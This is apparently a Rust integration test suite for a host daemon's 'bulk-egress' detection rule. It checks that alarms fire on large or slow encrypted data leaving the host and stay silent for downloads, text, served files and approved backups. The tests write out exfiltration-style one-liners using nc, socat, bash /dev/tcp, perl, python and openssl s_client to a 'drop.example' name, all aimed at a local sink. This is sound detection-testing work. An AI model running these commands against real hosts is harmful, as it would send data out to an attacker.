//! `bulk-egress` and what is usual: a lot of ciphertext leaves over a lasting connection, or little by little; and
//! what must raise nothing: downloads, text, what is served, a backup that is known or approved. Real programs.

use counterfoil_tests::daemon::Daemon;
use counterfoil_tests::observed::{Observed, Run};
use counterfoil_tests::report::Report;
use counterfoil_tests::{check, need, need_sshd, peers, product, scratch, sshd, wait};
use serde_json::Value;
use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

const PATIENCE: Duration = Duration::from_secs(30);

/// Somebody unobserved who takes whatever comes, on a port of his own; what he was sent begins with `GET` he answers
/// with a lot.
struct Sink {
    port: u16,
    got: Arc<AtomicU64>,
}

impl Sink {
    fn open() -> Self {
        let listener = TcpListener::bind(("127.0.0.1", 0)).expect("bind");
        let port = listener.local_addr().expect("address").port();
        let got = Arc::new(AtomicU64::new(0));
        let count = Arc::clone(&got);
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let count = Arc::clone(&count);
                std::thread::spawn(move || take(stream, &count));
            }
        });
        Self { port, got }
    }
}

fn take(mut stream: TcpStream, count: &AtomicU64) {
    let mut buffer = vec![0; 65536];
    while let Ok(n @ 1..) = stream.read(&mut buffer) {
        count.fetch_add(n as u64, Ordering::Relaxed);
        if buffer.starts_with(b"GET") {
            let body = scratch::payload(9, 8 << 20);
            let head =
                format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
            let _ = stream.write_all(head.as_bytes()).and_then(|()| stream.write_all(&body));
            return;
        }
    }
}

fn alarms(report: &Report) -> Vec<Value> {
    report.alarms().into_iter().filter(|a| a.rule() == "bulk-egress").map(|a| a.0).collect()
}

/// Panics unless the rule fired just once, about `program`.
fn fired(run: &Run, program: &str) -> Value {
    let mut all: Vec<Value> = alarms(&run.report);
    let ids: std::collections::BTreeSet<String> = all.iter().map(|a| a["id"].to_string()).collect();
    check!(run, ids.len() == 1, "bulk-egress {} times", ids.len());
    let alarm = all.pop().expect("an alarm");
    let exe = alarm["process"]["exe"].as_str().unwrap_or("").rsplit('/').next().unwrap_or("").to_owned();
    check!(run, exe.starts_with(program), "about {exe}, not {program}");
    alarm
}

/// The encrypted original of nothing in particular.
fn encrypt(bytes: u64) -> String {
    format!("head -c {bytes} /dev/zero | openssl enc -aes-256-ctr -pass pass:x -pbkdf2")
}

#[test]
fn a_hundred_megabytes_over_one_socket_while_it_is_open() {
    need!("openssl", "nc");
    let sink = Sink::open();
    let script = format!("({}; await test -e go) | nc -N 127.0.0.1 {}", encrypt(100_000_000), sink.port);
    let running = Observed::script(&script).limit(120).start();
    let early = wait::until(Duration::from_secs(90), "the alarm comes while the connection is open", || {
        alarms(&running.report_so_far()).pop()
    });
    wait::until(PATIENCE, "all arrived", || (sink.got.load(Ordering::Relaxed) >= 100_000_000).then_some(()));
    running.scratch.write("go", "");
    let run = running.finish().well();
    assert_eq!(early["evidence"]["connection_open"], true, "{early}");
    let alarm = fired(&run, "nc");
    let fields = [
        ("/analytic", "AN0989"),
        ("/severity", "high"),
        ("/technique", "T1041"),
        ("/why/tunable", "data_volume_threshold"),
        ("/why/window", "5min"),
        ("/why/baseline", "first-seen"),
        ("/evidence/class", "encrypted"),
        ("/evidence/pattern", "burst"),
        ("/connection/direction", "out"),
    ];
    for (field, word) in fields {
        check!(run, alarm.pointer(field).and_then(Value::as_str) == Some(word), "{field} {alarm}");
    }
    let remote = format!("127.0.0.1:{}", sink.port);
    check!(run, alarm["connection"]["remote"] == remote.as_str(), "{alarm}");
    check!(run, alarm["why"]["threshold"] == 1 << 20, "{alarm}");
    check!(run, alarm["evidence"]["rate_bytes_per_s"].as_f64() > Some(0.0), "{alarm}");
    check!(run, alarm["process"]["sha256"].as_str().is_some_and(|s| s.len() == 64), "{alarm}");
    // Its last word has all of it.
    let last = run.report.lines.iter().rfind(|l| l["rule"] == "bulk-egress").expect("an alarm");
    check!(run, last["connection"]["bytes_out"].as_u64() >= Some(100_000_000), "{last}");
}

#[test]
fn every_way_out() {
    need!("openssl", "nc", "socat", "perl", "bash", "gzip", "base64");
    let sink = Sink::open();
    let port = sink.port;
    let secret = encrypt(2 << 20);
    let ways = [
        ("cat", "encrypted", format!("{secret} >f; bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; cat f >&3'")),
        ("socat", "encrypted", format!("{secret} | socat -u STDIN TCP:127.0.0.1:{port}")),
        ("nc", "compressed", format!("{secret} | gzip -1 | nc -N 127.0.0.1 {port}")),
        ("nc", "structured", format!("head -c 2000000 /dev/urandom | base64 | nc -N 127.0.0.1 {port}")),
        (
            "perl",
            "encrypted",
            format!(
                "{secret} >f; perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(PeerAddr => \"127.0.0.1:{port}\") or die; \
                 open F, \"f\"; while (read F, $b, 65536) {{ print $s $b }}'"
            ),
        ),
        (
            "python",
            "encrypted",
            format!(
                "{secret} >f; {} -c \"import socket; s = socket.create_connection(('127.0.0.1', {port})); s.sendfile(open('f', 'rb'))\"",
                peers::PYTHON
            ),
        ),
    ];
    for (program, class, script) in ways {
        let run = Observed::script(&script).go().well();
        let alarm = fired(&run, program);
        check!(
            run,
            alarm["evidence"]["class"] == class
                || class == "encrypted" && alarm["evidence"]["class"].is_null(),
            "{alarm}"
        );
    }
}

#[test]
fn a_process_that_is_only_counted_while_its_connection_is_open() {
    let daemon = Daemon::watching("baseline_days = 0");
    let sink = Sink::open();
    let script = format!(
        "import os, socket, time\ns = socket.create_connection(('127.0.0.1', {}))\n\
         for i in range(64): s.sendall(os.urandom(131072))\n\
         while not os.path.exists('go'): time.sleep(0.02)\n",
        sink.port
    );
    let running = daemon.observing(&[peers::PYTHON, "-c", &script]).start();
    let report = daemon.until_reported("the alarm comes while it is open", |r| r.fired("bulk-egress"));
    running.scratch.write("go", "");
    running.finish().well();
    let alarm = alarms(&report).pop().expect("an alarm");
    assert!(alarm["process"]["exe"].as_str().is_some_and(|exe| exe.contains("python")), "{alarm}");
    assert_eq!(alarm["evidence"]["connection_open"], true, "{alarm}");
    assert_eq!(alarm["evidence"]["class"], "encrypted", "{alarm}");
    assert!(alarm["connection"]["bytes_out"].as_u64() >= Some(1 << 20), "{alarm}");
    // Text of the same process is not it, nor what it downloads.
    let mut daemon = Daemon::watching("baseline_days = 0");
    let script = format!(
        "import socket\ns = socket.create_connection(('127.0.0.1', {0}))\n\
         for i in range(300000): s.sendall(b'line %d of a text\\n' % i)\ns.close()\n\
         s = socket.create_connection(('127.0.0.1', {0}))\ns.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')\n\
         while s.recv(65536): pass\n",
        sink.port
    );
    daemon.observing(&[peers::PYTHON, "-c", &script]).go().well();
    // Its end judges all of it.
    daemon.stop();
    let report = daemon.report();
    assert!(report.on("tcp").len() >= 3, "{}", daemon.shown("both are told"));
    assert!(!report.fired("bulk-egress"), "{}", daemon.shown("text and a download"));
}

#[test]
fn inside_tls_the_servers_name_is_known() {
    need!("openssl", "socat");
    let port = peers::free_port();
    let script = format!(
        "openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=localhost -keyout k.pem -out c.pem 2>/dev/null\n\
         socat -u OPENSSL-LISTEN:{port},bind=127.0.0.1,cert=c.pem,key=k.pem,verify=0 OPEN:/dev/null &\n\
         listening {port}\n\
         {} >secret\ncat secret | openssl s_client -quiet -nocommands -no_ign_eof -connect 127.0.0.1:{port} -servername drop.example >/dev/null 2>&1\nwait",
        encrypt(4 << 20)
    );
    let run = Observed::script(&script).go();
    let alarm = fired(&run, "openssl");
    check!(run, alarm["connection"]["server_name"] == "drop.example", "{alarm}");
    check!(run, alarm["evidence"]["class"] == "encrypted", "{alarm}");
}

#[test]
fn what_is_no_bulk_egress() {
    need!("openssl", "nc", "socat", "curl");
    let (sink, port) = (Sink::open(), peers::free_port());
    let script = format!(
        "{} >secret\nseq 900000 >text\n\
         curl -sS -o got http://127.0.0.1:{sink}/\n\
         nc -N 127.0.0.1 {sink} <text\n\
         head -c 900000 secret | nc -N 127.0.0.1 {sink}\n\
         socat -u OPEN:secret TCP-LISTEN:{port},bind=127.0.0.1 &\nlistening {port}\n\
         nc -d 127.0.0.1 {port} >served\nwait\ncmp secret served",
        encrypt(8 << 20),
        sink = sink.port,
    );
    let run = Observed::script(&script).go().well();
    // A large download, text, less than the threshold, what is served.
    check!(run, !run.report.fired("bulk-egress"), "{:#?}", alarms(&run.report));
}

#[test]
fn a_drip_over_many_connections() {
    need!("openssl", "nc");
    let sink = Sink::open();
    let script = format!(
        "{} >secret\nfor i in 1 2 3 4 5 6 7 8; do tail -c 200000 secret | nc -N 127.0.0.1 {}; sleep 0.5; done",
        encrypt(200_000),
        sink.port
    );
    // A burst would be a mebibyte in a second; a drip as much in two minutes.
    let observed = Observed::script(&script);
    let config = observed.scratch.write(
        "config.toml",
        "[egress]\ndata_volume_threshold = \"1MiB in 1s\"\nconnection_duration = \"2min\"\n",
    );
    let run = observed.option("--config").option(config).go().well();
    let alarm = fired(&run, "nc");
    check!(run, alarm["evidence"]["pattern"] == "drip", "{alarm}");
    check!(run, alarm["evidence"]["connections"].as_u64() >= Some(6), "{alarm}");
    check!(run, alarm["why"]["window"] == "2min", "{alarm}");
    // What is inside is no egress.
    let observed = Observed::script(&script);
    let config = observed.scratch.write(
        "config.toml",
        "[watch]\ninternal_ranges = [\"127.0.0.0/8\"]\n[egress]\ndata_volume_threshold = \"1KiB\"\n",
    );
    let run = observed.option("--config").option(config).go().well();
    check!(run, !run.report.fired("bulk-egress"), "{:#?}", alarms(&run.report));
}

#[test]
fn a_program_is_believed_for_what_it_is_and_not_for_its_name() {
    need!("openssl", "nc");
    if !peers::root() {
        counterfoil_tests::skip!(
            "only root's programs are believed by their paths, and their folders must be root's"
        );
    }
    let sink = Sink::open();
    let nc = std::fs::canonicalize(peers::find("nc").expect("nc")).expect("nc");
    let script = format!(
        "{} >secret\nmkdir bin\ncp {nc} bin/nc\nnc -N 127.0.0.1 {port} <secret\nbin/nc -N 127.0.0.1 {port} <secret",
        encrypt(2 << 20),
        nc = nc.display(),
        port = sink.port
    );
    let observed = Observed::script(&script);
    let copy = observed.scratch.at("bin/nc");
    let config = format!("[egress]\nknown_benign_processes = [{nc:?}, {copy:?}]\n");
    let config = observed.scratch.write("config.toml", config);
    let run = observed.option("--config").option(config).go().well();
    let alarm = fired(&run, "nc");
    // The copy lies in a folder below /tmp, where anyone may put files.
    check!(run, alarm["process"]["exe"].as_str() == copy.to_str(), "{alarm}");
}

fn baseline(daemon: &Daemon, words: &[&str]) -> Run {
    let state = daemon.state().display().to_string();
    let program = product::program().display().to_string();
    let mut all = vec![program.as_str(), "baseline"];
    all.extend(words);
    all.extend(["--state", &state]);
    Observed::new(all).plain().go()
}

fn lines(run: &Run) -> Vec<Value> {
    run.stdout.lines().filter_map(|line| serde_json::from_str(line).ok()).collect()
}

fn sends(daemon: &Daemon, script: &str) {
    daemon.observing(&["sh", "-euc", script]).limit(100).go().well();
}

#[test]
fn a_backup_that_was_learnt_and_one_that_is_new() {
    need!("rsync", "nc", "openssl");
    need_sshd!();
    let folder = scratch::Scratch::new();
    let server = sshd::Sshd::new(&folder);
    folder.write("src/data", scratch::payload(3, 3 << 20));
    std::fs::create_dir_all(folder.at("dst")).expect("folder");
    let here = folder.path().display();
    // Two ways of one backup: each goes through ssh, which is what has the connection.
    let backup = format!(
        "cd {here}; rm -rf dst/*; rsync -a -e 'ssh -F ssh_config' src/ far:{here}/dst/; scp -q -F ssh_config src/data far:{here}/dst/again"
    );
    let sink = Sink::open();
    let elsewhere = format!("{} | nc -N 127.0.0.1 {}", encrypt(3 << 20), sink.port);
    let mut command = std::process::Command::new(peers::find("sshd").expect("sshd"));
    command.args(["-D", "-f"]).arg(folder.at("sshd_config")).env_remove("LD_PRELOAD");
    let mut serving = command.stdin(std::process::Stdio::null()).spawn().expect("sshd");
    wait::until(PATIENCE, "sshd listens", || TcpStream::connect(("127.0.0.1", server.port())).ok());

    // It learns: it lists what it would have raised.
    let mut daemon = Daemon::watching("baseline_days = 7");
    sends(&daemon, &backup);
    let listed = wait::until(PATIENCE, "the backup is listed", || {
        let run = baseline(&daemon, &["would-have-raised", "--json"]);
        lines(&run).into_iter().find(|l| l["rule"] == "bulk-egress")
    });
    assert!(listed["process"]["exe"].as_str().is_some_and(|exe| exe.ends_with("/ssh")), "{listed}");
    assert!(!daemon.report().fired("bulk-egress"), "{}", daemon.shown("it learns"));
    let learnt = lines(&baseline(&daemon, &["list", "--json"]));
    let entry = learnt.iter().find(|l| l["port"] == server.port()).expect("the errand");
    assert!(entry["peak"].as_u64() >= Some(3 << 20) && entry["user"].is_string(), "{entry}");

    // Learning is over, as SIGHUP says: the same again is usual, anything else is not.
    daemon.reload_watching("baseline_days = 0");
    sends(&daemon, &backup);
    sends(&daemon, &elsewhere);
    let report = daemon.until_reported("the other one is raised", |r| r.fired("bulk-egress"));
    let all = alarms(&report);
    let programs: Vec<&str> = all.iter().filter_map(|a| a["process"]["exe"].as_str()).collect();
    assert!(programs.iter().all(|exe| exe.contains("nc")), "{all:#?}");

    // What was learnt outlives the daemon; once it is reset it is new.
    daemon.stop();
    daemon.launch();
    let id = entry["id"].as_str().expect("id").to_owned();
    baseline(&daemon, &["reset", &id]).well();
    sends(&daemon, &backup);
    let raised = |r: &Report| {
        alarms(r).iter().any(|a| a["connection"]["remote"] == format!("127.0.0.1:{}", server.port()))
    };
    wait::until(PATIENCE, daemon.shown("the reset backup is raised"), || {
        // The daemon takes the reset up within a second.
        sends(&daemon, &backup);
        raised(&daemon.report()).then_some(())
    });
    serving.kill().expect("kill");
    let _ = serving.wait();
}

#[test]
fn what_an_operator_approves_is_in_order() {
    need!("nc", "openssl");
    if !peers::root() {
        counterfoil_tests::skip!("an approved program must be root's alone");
    }
    let daemon = Daemon::watching("baseline_days = 0");
    let (sink, other) = (Sink::open(), Sink::open());
    let send = |port: u16| sends(&daemon, &format!("{} | nc -N 127.0.0.1 {port}", encrypt(2 << 20)));
    let raised = |port: u16| {
        let remote = format!("127.0.0.1:{port}");
        alarms(&daemon.report()).iter().any(|a| a["connection"]["remote"] == remote.as_str())
    };
    let (port, nc) = (sink.port.to_string(), peers::find("nc").expect("nc").display().to_string());
    let what = ["approve", "--exe", &nc, "--destination", "127.0.0.0/8", "--port", &port];
    let bare = baseline(&daemon, &what);
    check!(
        bare,
        bare.code() == 2 && bare.stderr.contains("--owner") && bare.stderr.contains("--expires"),
        "usage"
    );
    let with = ["--owner", "ops", "--reason", "nightly copy", "--expires", "90d", "--json"];
    let approved = baseline(&daemon, &[&what[..], &with[..]].concat()).well();
    let approval = lines(&approved).pop().expect("an approval");
    assert_eq!((approval["type"].as_str(), approval["owner"].as_str()), (Some("approval"), Some("ops")));
    // The other port is raised when the approval is in effect, too; the approved one never.
    wait::until(PATIENCE, daemon.shown("only the approved one is quiet"), || {
        send(other.port);
        raised(other.port).then_some(())
    });
    daemon.until_logged("changed by an operator");
    send(sink.port);
    send(other.port);
    assert!(!raised(sink.port), "{}", daemon.shown("approved"));
    let listed = baseline(&daemon, &[]).well();
    check!(
        listed,
        listed.stdout.contains("nightly copy") && listed.stdout.contains("1 approved"),
        "the list"
    );
    // Taken back.
    baseline(&daemon, &["reset", approval["id"].as_str().expect("id")]).well();
    wait::until(PATIENCE, daemon.shown("it is raised again"), || {
        send(sink.port);
        raised(sink.port).then_some(())
    });
}

#[test]
fn the_help_teaches() {
    let program = product::program().display().to_string();
    let run = Observed::new([program.as_str(), "baseline", "--help"]).plain().go().well();
    for word in ["would-have-raised", "approve", "reset", "baseline_days", "--owner", "Examples"] {
        check!(run, run.stdout.contains(word), "{word}");
    }
    let run = Observed::new([program.as_str(), "baseline", "--state", "/nonexistent"]).plain().go();
    check!(run, run.code() == 1 && run.stderr.contains("no baseline"), "no state");
}

/// QUIC and its like: by datagrams that say each where they go, or over a socket that is connected.
#[test]
fn by_datagrams() {
    need!("/usr/bin/python3");
    let sink = std::net::UdpSocket::bind(("127.0.0.1", 0)).expect("bind");
    let port = sink.local_addr().expect("address").port();
    for send in [format!("s.sendto(d, ('127.0.0.1', {port}))"), "s.send(d)".into()] {
        let connect = if send.contains("sendto") { "" } else { "s.connect(('127.0.0.1', PORT)); " };
        let script = format!(
            "{} -c \"import os, socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); {}[DATA for i in range(2500)]\"",
            peers::PYTHON,
            connect.replace("PORT", &port.to_string()),
        );
        let encrypted = script.replace("DATA", &send.replace("(d", "(os.urandom(1000)"));
        let alarm = fired(&Observed::script(&encrypted).go().well(), "python3");
        let remote = format!("127.0.0.1:{port}");
        assert_eq!(alarm["connection"]["remote"], remote.as_str(), "{alarm}");
        assert_eq!(alarm["evidence"]["class"], "encrypted", "{alarm}");
        // As much text, and as much that is answered with more.
        let text = script.replace("DATA", &send.replace("(d", "(b'line of a text\\\\n' * 60"));
        let run = Observed::script(&text).go().well();
        check!(run, !run.report.fired("bulk-egress"), "{:#?}", alarms(&run.report));
    }
}
